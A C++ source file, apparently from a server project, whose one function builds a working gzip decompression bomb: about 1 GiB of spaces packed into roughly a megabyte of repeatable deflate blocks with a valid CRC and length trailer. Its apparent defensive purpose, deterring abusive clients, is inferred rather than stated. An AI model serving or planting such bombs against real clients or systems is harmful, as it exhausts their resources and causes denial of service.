#include "outlet/gzip_bomb.h"

#include <zlib.h>

#include <cassert>

namespace offprint::outlet {

namespace {

constexpr std::size_t block_bytes = 1'048'576;
constexpr int blocks = 1024;

/// A megabyte of spaces as deflate blocks that end on a byte and refer to nothing before them, so that they
/// may be repeated.
std::string repeatable_blocks(const std::string& plain) {
  z_stream stream{};
  [[maybe_unused]] int code = deflateInit2(&stream, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
  assert(code == Z_OK);
  std::string packed(deflateBound(&stream, plain.size()) + 16, '\0');
  std::string input = plain;
  stream.next_in = reinterpret_cast<Bytef*>(input.data());
  stream.avail_in = static_cast<uInt>(input.size());
  stream.next_out = reinterpret_cast<Bytef*>(packed.data());
  stream.avail_out = static_cast<uInt>(packed.size());
  code = deflate(&stream, Z_FULL_FLUSH);
  assert(code == Z_OK && stream.avail_in == 0);
  packed.resize(stream.total_out);
  deflateEnd(&stream);
  return packed;
}

void append_little_endian(std::string& text, std::size_t value) {
  for (int shift = 0; shift < 32; shift += 8) text += static_cast<char>((value >> shift) & 0xFF);
}

} // namespace

std::string gzip_bomb() {
  const std::string plain(block_bytes, ' ');
  const std::string block = repeatable_blocks(plain);
  const uLong block_crc = crc32(0, reinterpret_cast<const Bytef*>(plain.data()), block_bytes);
  std::string bomb("\x1f\x8b\x08\0\0\0\0\0\x02\xff", 10); // RFC 1952, 2.3
  uLong crc = crc32(0, nullptr, 0);
  for (int i = 0; i < blocks; ++i) {
    bomb += block;
    crc = crc32_combine(crc, block_crc, static_cast<z_off_t>(block_bytes));
  }
  bomb += std::string("\x03\0", 2); // the last block, empty
  append_little_endian(bomb, crc);
  append_little_endian(bomb, block_bytes * blocks);
  return bomb;
}

} // namespace offprint::outlet
